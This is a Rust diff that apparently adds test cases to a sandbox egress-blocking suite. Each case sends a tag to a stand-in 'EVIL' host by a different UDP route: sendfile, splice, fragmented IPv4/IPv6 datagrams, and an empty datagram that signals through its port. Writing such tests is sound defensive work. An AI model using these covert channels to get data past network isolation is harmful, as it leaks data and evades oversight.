@@ -175,6 +175,58 @@ pub(super) const CASES: &[Case] = &[
             sys::sendto(&socket, tag.as_bytes(), 0, &good).map(drop)
         },
     ),
+    Case::new(
+        "udp-sendfile",
+        &["G08"],
+        "`sendfile` into a connected UDP socket.",
+        |targets| {
+            let file = sys::memory_file(targets.tag().as_bytes())?;
+            let socket = udp(libc::AF_INET)?;
+            sys::connect(&socket, &sys::address(targets.at(EVIL_V4)))?;
+            sys::sendfile(&socket, &file, targets.tag().len())
+        },
+    ),
+    Case::new(
+        "udp-splice",
+        &["G08"],
+        "`splice` from a pipe into a connected UDP socket.",
+        |targets| {
+            let socket = udp(libc::AF_INET)?;
+            sys::connect(&socket, &sys::address(targets.at(EVIL_V4)))?;
+            sys::splice(&socket, targets.tag().as_bytes())
+        },
+    ),
+    Case::new(
+        "udp-fragmented",
+        &["P10"],
+        "A datagram that the kernel sends in fragments.",
+        |targets| {
+            let mut data = targets.tag().into_bytes();
+            data.resize(5000, b'.');
+            let to = sys::address(targets.at(EVIL_V4));
+            sys::sendto(&udp(libc::AF_INET)?, &data, 0, &to).map(drop)
+        },
+    ),
+    Case::new(
+        "udp-fragmented-v6",
+        &["P10"],
+        "The same, IPv6: a fragment header in front of UDP.",
+        |targets| {
+            let mut data = targets.tag().into_bytes();
+            data.resize(5000, b'.');
+            let to = sys::address(targets.at(EVIL_V6));
+            sys::sendto(&udp(libc::AF_INET6)?, &data, 0, &to).map(drop)
+        },
+    ),
+    Case::new(
+        "udp-empty",
+        &["G08"],
+        "A datagram without data: its port is the message.",
+        |targets| {
+            let to = sys::address(targets.at(EVIL_V4));
+            sys::sendto(&udp(libc::AF_INET)?, &[], 0, &to).map(drop)
+        },
+    ),
     Case::new("udplite-v4", &["G09"], "UDP-Lite, IPv4.", |targets| {
         let socket = sys::socket(libc::AF_INET, libc::SOCK_DGRAM, libc::IPPROTO_UDPLITE)?;
         let to = sys::address(targets.at(EVIL_V4));
